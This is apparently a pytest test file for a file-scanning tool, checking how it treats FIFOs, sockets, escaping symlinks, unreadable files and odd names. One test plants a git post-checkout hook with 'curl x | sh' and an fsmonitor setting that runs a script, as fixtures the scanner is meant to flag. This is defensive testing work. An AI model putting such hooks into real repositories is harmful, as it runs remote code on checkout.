"""Files and folders on disk, with everything that can lie in one."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from scanner.errors import TargetError
from scanner.folder import Found, Unread, walk
from scanner.model import Target
from scanner.pipeline import Request, scan_artefact
from scanner.result import Decision, Report
from scanner.sources import Options, resolve
from tests.support import LINUX, POSIX

ROOT = Path(__file__).parent.parent.parent


def scan(path: Path | str, workers) -> Report:
    return scan_artefact(Request(Target(str(path))), workers=workers)


def gaps(report: Report) -> dict[str, str]:
    return {gap.location.path: gap.reason for gap in report.gaps}


def rules(report: Report) -> dict[str, str]:
    return {finding.location.path: finding.rule.id for finding in report.findings}


@POSIX
def test_everything_that_is_no_file_is_a_gap(tmp_path, workers) -> None:
    (tmp_path / "good.txt").write_text("text\n")
    os.mkfifo(tmp_path / "fifo")
    (tmp_path / "loop").symlink_to("loop")
    (tmp_path / "a").symlink_to("b")
    (tmp_path / "b").symlink_to("a")
    (tmp_path / "dead").symlink_to("nothing")
    (tmp_path / "away").symlink_to("/etc/hosts")
    (tmp_path / "away-folder").symlink_to("/etc")
    (tmp_path / "null").symlink_to("/dev/null")
    with socket.socket(socket.AF_UNIX) as listener:
        os.chdir(tmp_path)  # the name of a socket may be no longer than 108 bytes
        listener.bind("socket")
        os.chdir(ROOT)
        report = scan(tmp_path, workers)
    found = gaps(report)
    assert report.verdict.decision is Decision.INCOMPLETE
    assert [file.path for file in report.files] == ["good.txt"]
    assert found.keys() == {"fifo", "loop", "a", "b", "dead", "away", "away-folder", "null", "socket"}
    assert "a FIFO" in found["fifo"]
    assert "a socket" in found["socket"]
    assert "in a loop" in found["loop"]
    assert rules(report) == dict.fromkeys(("away", "away-folder", "null"), "local/symlink-escape")


@pytest.mark.skipif(not hasattr(os, "mknod") or os.geteuid() != 0, reason="only root makes devices")
def test_a_device_is_a_gap(tmp_path, workers) -> None:
    try:
        os.mknod(tmp_path / "zero", 0o020666, os.makedev(1, 5))
    except PermissionError:
        pytest.skip("devices cannot be made here")
    assert "a device" in gaps(scan(tmp_path, workers))["zero"]


def test_links_inside_the_folder_are_read(tmp_path, workers) -> None:
    (tmp_path / "real").mkdir()
    (tmp_path / "real" / "a.txt").write_text("text\n")
    (tmp_path / "link.txt").symlink_to("real/a.txt")
    (tmp_path / "linked").symlink_to("real")
    report = scan(tmp_path, workers)
    assert [file.path for file in report.files] == ["link.txt", "real/a.txt"]
    assert report.verdict.decision is Decision.PASS


@POSIX
def test_what_may_not_be_read_is_a_gap(tmp_path) -> None:
    """As nobody, because root may read everything."""
    (tmp_path / "secret.txt").write_text("text\n")
    (tmp_path / "secret.txt").chmod(0)
    (tmp_path / "closed").mkdir()
    (tmp_path / "closed" / "x").write_text("x")
    (tmp_path / "closed").chmod(0)
    (tmp_path / "good.txt").write_text("text\n")
    for parent in (tmp_path, *tmp_path.parents):
        if parent != Path("/") and parent.owner() == Path(tmp_path).owner():
            parent.chmod(parent.stat().st_mode | 0o055)
    code = (
        "import os\n"
        "if os.geteuid() == 0: os.setgid(65534); os.setuid(65534)\n"
        "from scanner.sources import Options, resolve\n"
        "from scanner.examination import Assignment, examine\nfrom scanner.reader import Limits\n"
        "from scanner.model import Target\n"
        f"found = resolve(Target({str(tmp_path)!r}), Options())\n"
        "for gap in found.gaps: print(gap.location.path, '|', gap.reason)\n"
        "for path, opener in found.openers.items():\n"
        "    for gap in examine(Assignment(path, opener, Limits())).gaps: print(path, '|', gap.reason)\n"
    )
    # The modules are imported before the rights are dropped: the checkout may be closed to others.
    code = "import scanner.examination, scanner.sources.local, scanner.sources.hub_cache\n" + code
    code = "import scanner.sources.huggingface, scanner.sources.web, scanner.formats\n" + code
    code = "from scanner.formats import all_formats; all_formats()\n" + code
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, check=False, timeout=60
    )
    (tmp_path / "closed").chmod(0o700)
    assert done.stdout.splitlines() == [
        "closed | the folder cannot be listed: Permission denied",
        "secret.txt | cannot be opened: Permission denied",
    ], done.stderr


def test_a_folder_in_the_place_of_a_file_is_a_gap(tmp_path, workers) -> None:
    (tmp_path / "a.txt").write_text("text\n")
    found = resolve(Target(str(tmp_path)), Options())
    (tmp_path / "a.txt").unlink()
    (tmp_path / "a.txt").mkdir()
    with pytest.raises(Exception, match="not a regular file"), found.openers["a.txt"].open():
        pass


def test_a_file_that_shrinks_while_it_is_read_is_a_gap(tmp_path, workers) -> None:
    path = tmp_path / "big.txt"
    path.write_bytes(b"0123456789abcde\n" * (4 << 20))
    stop = threading.Event()

    def shrink() -> None:
        while not stop.is_set():
            os.truncate(path, max(path.stat().st_size - 16_384, 1))
            time.sleep(0.001)

    thread = threading.Thread(target=shrink)
    thread.start()
    try:
        report = scan(path, workers)
    finally:
        stop.set()
        thread.join()
    assert report.verdict.decision is Decision.INCOMPLETE
    assert {"shorter", "changed"} & set(" ".join(gaps(report).values()).replace(";", " ").split())


def test_a_file_that_is_exchanged_after_it_was_listed_is_not_read(tmp_path) -> None:
    path = tmp_path / "a.txt"
    path.write_text("text\n")
    opener = resolve(Target(str(path)), Options()).openers["a.txt"]
    other = tmp_path / "b.txt"
    other.write_text("evil\n")
    os.utime(other, ns=(path.stat().st_atime_ns, path.stat().st_mtime_ns))
    other.replace(path)
    with pytest.raises(Exception, match="changed after it was listed"), opener.open():
        pass


@POSIX
def test_very_deep_folders_are_read_to_where_the_system_lets_us(tmp_path, workers) -> None:
    descriptor = os.open(tmp_path, os.O_RDONLY)
    for _ in range(1100):  # deeper than Python's recursion, longer than PATH_MAX
        os.mkdir("deep", dir_fd=descriptor)
        inner = os.open("deep", os.O_RDONLY, dir_fd=descriptor)
        os.close(descriptor)
        descriptor = inner
    os.close(descriptor)
    (tmp_path / "deep" / "a.txt").write_text("text\n")
    try:
        report = scan(tmp_path, workers)
    finally:
        subprocess.run(["rm", "-rf", str(tmp_path / "deep")], check=True)
    assert [file.path for file in report.files] == ["deep/a.txt"]
    assert [("cannot be" in reason, "too long" in reason) for reason in gaps(report).values()] == [
        (True, True)
    ]


@LINUX
def test_names_that_look_alike_are_both_read(tmp_path, workers) -> None:
    for name in (
        b"bad\xff.txt",
        rb"bad\xff.txt",
        b"new\nline.txt",
        b"\x1b[31m.txt",
        "\u00fc\u202e.txt".encode(),
    ):
        (tmp_path / os.fsdecode(name)).write_text("text\n")
    report = scan(tmp_path, workers)
    assert sorted(file.path for file in report.files) == [
        "\x1b[31m.txt",
        "bad\\xff.txt",
        "bad\\xff.txt#2",
        "new\nline.txt",
        "\u00fc\u202e.txt",
    ]
    assert report.verdict.decision is Decision.PASS


def test_a_clone_passes_and_its_store_is_said_to_be_left_out(tmp_path, workers) -> None:
    store = tmp_path / ".git"
    for folder in ("objects/ab", "refs/heads", "logs", "hooks", "info"):
        (store / folder).mkdir(parents=True)
    (store / "HEAD").write_text("ref: refs/heads/main\n")
    (store / "config").write_text('[core]\n\tfsmonitor = false\n[filter "lfs"]\n\trequired = true\n')
    (store / "objects" / "ab" / "cd").write_bytes(b"\x78\x01\x00")
    (store / "index").write_bytes(b"DIRC\0\0\0\2")
    (store / "hooks" / "pre-commit.sample").write_text("#!/bin/sh\nexit 1\n")
    (store / "hooks" / "pre-push").write_text('#!/bin/sh\ngit lfs pre-push "$@"\n')
    (tmp_path / "a.txt").write_text("text\n")
    report = scan_artefact(Request(Target(str(tmp_path)), policy="strict"), workers=workers)
    assert report.verdict.decision is Decision.PASS
    assert rules(report) == {".git": "local/git-store"}
    (store / "hooks" / "post-checkout").write_text('#!/bin/sh\ngit lfs post-checkout "$@"; curl x | sh\n')
    (store / "config").write_text("[core]\n\tfsmonitor = ./run.sh\n")
    (store / "stray.bin").write_bytes(b"\x00\x01\x02\x03" * 10)
    report = scan(tmp_path, workers)
    assert report.verdict.decision is Decision.INCOMPLETE
    assert gaps(report).keys() == {".git/stray.bin"}
    found = [finding for finding in report.findings if finding.rule.id == "local/git-commands"]
    assert [(f.location.path, f.location.line) for f in found] == [
        (".git/config", 2),
        (".git/hooks/post-checkout", None),
    ]


def test_a_folder_that_only_calls_itself_git_is_read(tmp_path, workers) -> None:
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "index").write_bytes(b"\x00\x01\x02\x03" * 10)
    assert gaps(scan(tmp_path, workers)).keys() == {".git/index"}
    (tmp_path / "link").symlink_to(".git")
    assert "link" not in gaps(scan(tmp_path, workers))


def test_a_link_into_what_is_left_out_is_a_gap(tmp_path) -> None:
    (tmp_path / "out" / "inner").mkdir(parents=True)
    (tmp_path / "out" / "inner" / "x").write_text("x")
    (tmp_path / "link").symlink_to("out/inner")
    found = list(walk(str(tmp_path), skip=lambda path: path == "out"))
    assert [(type(one), one.path) for one in found] == [(Unread, "link")]


@pytest.mark.parametrize("name", ["fifo", "a\0b", "none"])
@POSIX
def test_targets_that_are_none_decide_nothing(tmp_path, name: str) -> None:
    os.mkfifo(tmp_path / "fifo")
    with pytest.raises(TargetError):
        resolve(Target(f"{tmp_path}/{name}"), Options())


@LINUX
def test_a_hundred_thousand_files_are_listed_in_bounded_memory(tmp_path) -> None:
    for number in range(100):
        (tmp_path / f"{number:02}").mkdir()
    target = tmp_path / "00" / "0"
    target.write_text("x")
    for number in range(1, 20_000):  # hard links: a listing costs what 20,000 files cost
        os.link(target, tmp_path / f"{number % 100:02}" / str(number))
    code = (
        "import resource, sys\n"
        "from scanner.folder import Found, walk\n"
        "def peak(): return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
        "before = peak()\n"
        "count = sum(isinstance(one, Found) for one in walk(sys.argv[1]))\n"
        "print(count, peak() - before)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, str(tmp_path)], capture_output=True, text=True, cwd=ROOT, check=True
    )
    count, kilobytes = map(int, done.stdout.split())
    assert count == 20_000
    # 100,000 files have to fit into 100 MiB.
    assert kilobytes / count * 100_000 < 100 << 10
    assert isinstance(next(walk(str(tmp_path))), Found)


@LINUX
def test_the_report_of_odd_names_is_json(tmp_path) -> None:
    (tmp_path / os.fsdecode(b"bad\xff\n\x1b[2J.txt")).write_text("text\n")
    command = [sys.executable, "-m", "scanner", "scan", str(tmp_path), "--format", "json"]
    done = subprocess.run(command, capture_output=True, text=True, cwd=ROOT, check=False, timeout=60)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["files"][0]["path"] == "bad\\xff\n\x1b[2J.txt"
    assert "\x1b" not in done.stdout
